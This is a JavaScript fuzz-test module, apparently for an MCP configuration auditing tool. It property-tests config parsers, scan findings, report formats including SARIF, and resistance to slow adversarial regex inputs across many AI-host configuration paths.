function checkFinding(m, f, texts, sources) {
  const text = texts.get(f.file) ?? '';
  // One source (its line starts) per file, not per finding: a file may have tens of thousands of findings.
  let src = sources.get(f.file);
  if (!src) sources.set(f.file, (src = m.makeSource('/fuzz', f.file, text)));
  const lines = src.lineStarts.length;
  const r = f.region;
  const where = `${f.ruleId} at ${f.file} ${JSON.stringify(r)} ${JSON.stringify(f.span)}`;
  if (!['error', 'warning', 'note'].includes(f.level)) fail(`${where}: bad level ${f.level}`);
  if (typeof f.message !== 'string' || !f.message.trim()) fail(`${where}: empty message`);
  checkSpan(f.span, text.length, where);
  for (const k of ['startLine', 'startColumn', 'endLine', 'endColumn']) if (!Number.isInteger(r[k]) || r[k] < 1) fail(`${where}: ${k} is not a positive integer`);
  if (r.startLine > r.endLine || r.endLine > lines) fail(`${where}: lines out of order or past the end (${lines} lines)`);
  if (r.startLine === r.endLine && r.endColumn < r.startColumn) fail(`${where}: endColumn before startColumn`);
  for (const [line, column] of [[r.startLine, r.startColumn], [r.endLine, r.endColumn]]) {
    const next = src.lineStarts[line] ?? text.length;
    if (column - 1 > next - src.lineStarts[line - 1]) fail(`${where}: column ${column} past the end of line ${line}`);
  }
  for (const s of f.snippet ?? []) if (!(s.line >= r.startLine && s.line <= r.endLine) || typeof s.text !== 'string') fail(`${where}: bad snippet line`, s);
}

/** A scan of a tree holding `display`: no internal errors, valid findings, a file that did not load is reported. */
export function checkScan(m, result, display) {
  if (result.internalErrors.length) fail(`internal errors: ${result.internalErrors.join('\n')}`);
  const texts = new Map(result.configs.map((c) => [c.source.display, c.source.text]));
  // Findings may also point into a skill's SKILL.md and its scripts.
  for (const skill of result.skills ?? []) {
    texts.set(skill.manifest.display, skill.manifest.text);
    for (const script of skill.scripts) if (script.text !== undefined) texts.set(script.source.display, script.text);
  }
  const sources = new Map();
  for (const f of result.findings) checkFinding(m, f, texts, sources);
  const config = result.configs.find((c) => c.source.display === display);
  const invalid = result.findings.filter((f) => f.file === display && f.ruleId === 'invalid-config');
  if (!config) {
    if (!invalid.length) fail(`${display} was neither scanned nor reported as invalid-config`);
  } else {
    // invalid-config lists the first MAX_PROBLEMS_PER_FILE problems of a file and one line for the rest
    const expected = config.problems.length > m.MAX_PROBLEMS_PER_FILE ? m.MAX_PROBLEMS_PER_FILE + 1 : config.problems.length;
    if (invalid.length !== expected) fail(`${display}: ${config.problems.length} problems but ${invalid.length} invalid-config findings`);
    if (config.data === undefined && !invalid.some((f) => f.level === 'error')) fail(`${display} did not load but no invalid-config error says so`);
  }
}

/** The JSON, text and GitHub reports of a scan are well-formed. */
export function checkReports(m, findings) {
  const json = JSON.parse(m.formatJson(findings, '0.0.0-fuzz'));
  if (json.version !== 1 || json.findings.length !== findings.length) fail('JSON report does not list the findings');
  const text = m.formatText(findings, { color: false, docsUrl: m.docsUrl });
  if (!text.endsWith('\n')) fail('text report does not end with a line break');
  const github = m.formatGithub(findings, {});
  const lines = github.split('\n').filter(Boolean);
  if (lines.length !== findings.length || !lines.every((l) => /^::(error|warning|notice) file=/.test(l))) fail('GitHub report is not one annotation line per finding', lines);
}

// ---------------------------------------------------------------------------------------------------------------
// The properties

/**
 * Candidate paths for hosts beyond the three main ones: the first one the discovery would give to a host is where
 * its scan property writes its file. A host with no path here (or one that matches no path at all, like the user
 * files read only with --user) gets the parse() property only.
 */
export const OTHER_PATHS = [
  '.claude/settings.json', '.claude/settings.local.json', 'cline_mcp_settings.json', '.roo/mcp.json', '.continue/mcpServers/team.yaml',
  '.continue/mcpServers/team.json', '.github/mcp.json', '.copilot/mcp-config.json', '.cursor/mcp.json', '.gemini/settings.json',
  '.kiro/settings/mcp.json', '.amazonq/mcp.json', 'opencode.json', 'opencode.jsonc', '.codeium/windsurf/mcp_config.json',
  '.zed/settings.json',
];

/**
 * `m`: the modules under test — { hosts: { claudeCode, vscode, codex }, otherHosts: Host[] (every other parser),
 * hostFor(relPath) → Host | undefined (the discovery's choice), scan, rules, makeSource, valueSpan, formatJson,
 * formatText, formatGithub, formatSarif, reportContext, docsUrl, validateSarif(log) → string | undefined }, and for
 * the leak property { main, tokenFormats, findSecrets, secretsInText, visiblePrefix }.
 * Returns the properties with their CI run counts, and `dispose()` to remove the temporary trees.
 */
export function createFuzz(m, { maxRepeat = 300, onCase, budgetMs } = {}) {
  const dirs = [];
  const treeFor = (file) => {
    const dir = mkdtempSync(join(tmpdir(), 'mcp-audit-fuzz-'));
    dirs.push(dir);
    mkdirSync(dirname(join(dir, file)), { recursive: true });
    return dir;
  };
  const scanOnce = (dir, file, bytes) => {
    onCase?.(bytes);
    writeFileSync(join(dir, file), bytes);
    return m.scan({ paths: ['.'], cwd: dir, rules: m.rules });
  };
  const parseProperty = (name, runs, parser, file, arb) => ({
    name,
    runs,
    property: () => fc.property(arb, (text) => {
      onCase?.(text);
      const config = parser.parse(m.makeSource(`/fuzz/${file}`, file, text));
      checkConfigFile(m, config, text);
      checkNoPollution();
    }),
  });
  /** A property over whole scans of `file` holding generated bytes: `check` looks at each scan after checkScan. */
  const scanCase = (name, runs, file, arb, check) => ({
    name,
    runs,
    property: () => {
      const dir = treeFor(file);
      return fc.property(arb, (bytes) => {
        const result = scanOnce(dir, file, bytes);
        checkScan(m, result, file);
        check(result);
      });
    },
  });
  const scanProperty = (name, runs, file, arb) => scanCase(name, runs, file, arb, (result) => {
    checkReports(m, result.findings);
    checkNoPollution();
  });
  const sarifProperty = (name, runs, file, arb) => scanCase(name, runs, file, arb, (result) => {
    const sarif = JSON.parse(m.formatSarif(result.findings, m.reportContext(result, m.rules, '0.0.0-fuzz')));
    const problem = m.validateSarif(sarif);
    if (problem) fail(`invalid SARIF: ${problem}`);
    if (sarif.runs[0].results.length !== result.findings.length) fail('SARIF does not list every finding');
  });

  const properties = [];
  properties.push({
    name: `adversarial regex inputs: scan and reports of a long run in every place, each within ${budgetMs ?? HANG_MS} ms (+ ${HANG_MS_PER_FINDING} ms a finding)`,
    runs: 40,
    // A slow input is slow again on every shrinking step: report the first one as it is.
    options: { endOnFailure: true },
    property: () => fc.property(adversarialInputs(maxRepeat * 20), (input) => {
      onCase?.(JSON.stringify(input));
      const { main, files } = adversarialFiles(input);
      const dir = mkdtempSync(join(tmpdir(), 'mcp-audit-fuzz-'));
      try {
        for (const [file, text] of Object.entries(files)) {
          mkdirSync(dirname(join(dir, file)), { recursive: true });
          writeFileSync(join(dir, file), text);
        }
        // What a run of mcp-audit does (scan with code frames, each report), timed; the checks after, untimed.
        const started = process.cpuUsage();
        const result = m.scan({ paths: ['.'], cwd: dir, rules: m.rules, codeFrames: true });
        const reports = [
          m.formatJson(result.findings, '0.0.0-fuzz'), m.formatText(result.findings, { color: false, docsUrl: m.docsUrl }),
          m.formatGithub(result.findings, {}), m.formatSarif(result.findings, m.reportContext(result, m.rules, '0.0.0-fuzz')),
        ];
        const ms = cpuMsSince(started);
        const budget = (budgetMs ?? HANG_MS) + HANG_MS_PER_FINDING * result.findings.length;
        if (ms > budget) fail(`hang: ${input.place} of ${JSON.stringify(input.unit)} × ${input.length} + ${JSON.stringify(input.tail)} took ${Math.round(ms)} ms for ${result.findings.length} findings (budget ${Math.round(budget)} ms)`);
        checkScan(m, result, main);
        checkReports(m, result.findings);
        if (!reports.every((r) => typeof r === 'string')) fail('a report is not text');
        checkNoPollution();
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    }),
  });
  for (const host of HOSTS) {
    const parser = m.hosts[host.key];
    for (const [label, arb] of Object.entries(textInputs(host, maxRepeat))) {
      properties.push(parseProperty(`${host.id}: parse() on ${label}`, 600, parser, host.file, arb));
    }
    properties.push(scanProperty(`${host.id}: scan() of damaged files`, 400, host.file, byteInputs(host, maxRepeat)));
    properties.push(sarifProperty(`${host.id}: SARIF of damaged files validates`, 60, host.file, byteInputs(host, maxRepeat)));
  }
  if (m.main) {
    properties.push(leakProperty(m, {
      runs: 30, mutations: textMutation(maxRepeat), applyMutation: applyTextMutation, dirFor: () => treeFor('.'), onCase, budgetMs,
    }));
  }
  // Every other parser: the same inputs, all formats mixed, fewer cases each.
  const mixed = { syntax: 'json', container: 'mcpServers', headers: 'headers', key: 'other' };
  for (const parser of m.otherHosts ?? []) {
    const file = OTHER_PATHS.find((p) => m.hostFor(p) === parser);
    const arb = fc.oneof(...Object.values(textInputs(mixed, maxRepeat)), fc.constantFrom(...SEEDS.yaml), mutated(fc.constantFrom(...SEEDS.yaml), 'yaml', maxRepeat));
    const label = `${parser.name} (${parser.id})`;
    properties.push(parseProperty(`${label}: parse() on all inputs`, 200, parser, file ?? 'config.json', arb));
    if (file) {
      const bytes = fc.tuple(arb, fc.array(byteMutation(), { maxLength: 3 })).map(([text, ms]) => ms.reduce((b, x) => applyByteMutation(b, x, text), Buffer.from(text, 'utf8')));
      properties.push(scanProperty(`${label}: scan() of damaged ${file}`, 60, file, bytes));
    }
  }
  return {
    properties,
    dispose: () => dirs.splice(0).forEach((d) => rmSync(d, { recursive: true, force: true })),
  };
}

/** The parsers to fuzz besides the three main ones: the rest of the registry and the user-file hosts. */
export function otherHosts(registry, main, extra) {
  return [...new Set([...registry, ...extra])].filter((h) => !main.includes(h));
}

/** A validator for SARIF 2.1.0 (the schema copy that @microsoft/sarif-matcher-utils, a test dependency, ships). */
export async function sarifValidator() {
  const { default: Ajv } = await import('ajv-draft-04');
  const { default: addFormats } = await import('ajv-formats');
  const schema = JSON.parse(readFileSync(new URL('../node_modules/@microsoft/sarif-matcher-utils/lib/schemas/sarif-2.1.0-rtm.5.json', import.meta.url), 'utf8'));
  const ajv = new Ajv({ allErrors: true, strict: false, unicodeRegExp: false });
  addFormats(ajv);
  const validate = ajv.compile(schema);
  return (log) => (validate(log) ? undefined : ajv.errorsText(validate.errors, { separator: '\n' }));
}

// ---------------------------------------------------------------------------------------------------------------
// The long run

async function main(argv) {
  const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
  let seed = Date.now() % 2 ** 31;
  let scale = 50;
  let maxRepeat = 3000;
  let only;
  let budgetMs = 2000;
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    if (a === '--scale') scale = Number(argv[++i]);
    else if (a === '--budget-ms') budgetMs = Number(argv[++i]);
    else if (a === '--only') only = argv[++i];
    else if (a === '--max-repeat') maxRepeat = Number(argv[++i]);
    else if (/^-?\d+$/.test(a)) seed = Number(a);
    else {
      console.error(`usage: node test/fuzz/fuzz.mjs [SEED] [--scale N] [--only SUBSTRING] [--max-repeat N] [--budget-ms N]`);
      process.exit(2);
    }
  }
  const dist = (p) => import(pathToFileURL(join(root, 'dist', p)).href);
  let modules;
  try {
    const [claude, vscode, codex, user, hostIndex, engine, registry, source, json, text, github, sarif, ctx, invalid, cli, secretRule, secrets, inLine, redact] = await Promise.all([
      dist('src/hosts/claude-code.js'), dist('src/hosts/vscode.js'), dist('src/hosts/codex.js'), dist('src/hosts/claude-user.js'),
      dist('src/hosts/index.js'), dist('src/engine/engine.js'),
      dist('rules/index.js'), dist('src/model/source.js'), dist('src/report/json.js'), dist('src/report/text.js'),
      dist('src/report/github.js'), dist('src/report/sarif.js'), dist('src/report/load-context.js'), dist('rules/invalid-config.js'),
      dist('src/cli/cli.js'), dist('rules/hardcoded-secret.js'), dist('src/analysis/secrets.js'), dist('src/analysis/secrets-in-line.js'),
      dist('src/model/redact.js'),
    ]);
    modules = {
      hosts: { claudeCode: claude.claudeCode, vscode: vscode.vscode, codex: codex.codex },
      otherHosts: otherHosts(hostIndex.hosts, [claude.claudeCode, vscode.vscode, codex.codex], [user.claudeUser]),
      hostFor: (p) => hostIndex.hosts.find((h) => h.matches(p)),
      scan: engine.scan, rules: registry.rules, docsUrl: registry.docsUrl, makeSource: source.makeSource, valueSpan: source.valueSpan,
      formatJson: json.formatJson, formatText: text.formatText, formatGithub: github.formatGithub, formatSarif: sarif.formatSarif,
      reportContext: ctx.reportContext, validateSarif: await sarifValidator(), MAX_PROBLEMS_PER_FILE: invalid.MAX_PROBLEMS_PER_FILE,
      main: cli.main, tokenFormats: secretRule.tokenFormats, findSecrets: secrets.findSecrets, secretsInText: inLine.secretsInText,
      visiblePrefix: redact.visiblePrefix,
    };
  } catch (e) {
    console.error(`fuzz: cannot load dist/ (run "node scripts/build.mjs" first): ${e.message}`);
    process.exit(2);
  }
  const lastCase = join(tmpdir(), 'mcp-audit-fuzz-last-case');
  console.log(`fuzz: seed ${seed}, scale ${scale}, bursts up to ${maxRepeat}; rules: ${modules.rules.map((r) => r.meta.id).join(', ')}`);
  console.log(`fuzz: each input is written to ${lastCase} before it runs (for crashes that kill the process)`);
  const { properties, dispose } = createFuzz(modules, { maxRepeat, budgetMs, onCase: (input) => writeFileSync(lastCase, input) });
  let failed = 0;
  try {
    for (const p of properties) {
      if (only && !p.name.includes(only)) continue;
      const numRuns = Math.max(1, Math.round(p.runs * scale));
      const started = Date.now();
      process.stdout.write(`${p.name}: ${numRuns} cases ... `);
      const details = await fc.check(p.property(), { seed, numRuns, ...p.options });
      const seconds = ((Date.now() - started) / 1000).toFixed(1);
      if (details.failed) {
        failed++;
        console.log(`FAILED (${seconds} s)`);
        console.log(fc.defaultReportMessage(details));
        const error = details.errorInstance;
        console.log(error instanceof Error ? (error.stack ?? error.message) : String(error));
        console.log(`replay: node test/fuzz/fuzz.mjs ${seed} --scale ${scale} --max-repeat ${maxRepeat} --budget-ms ${budgetMs} --only ${JSON.stringify(p.name)}\n`);
      } else console.log(`ok (${seconds} s)`);
    }
  } finally {
    dispose();
  }
  if (failed) {
    console.log(`fuzz: ${failed} propert${failed === 1 ? 'y' : 'ies'} failed (seed ${seed})`);
    process.exit(1);
  }
  console.log(`fuzz: all properties hold (seed ${seed})`);
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  await main(process.argv.slice(2));
}
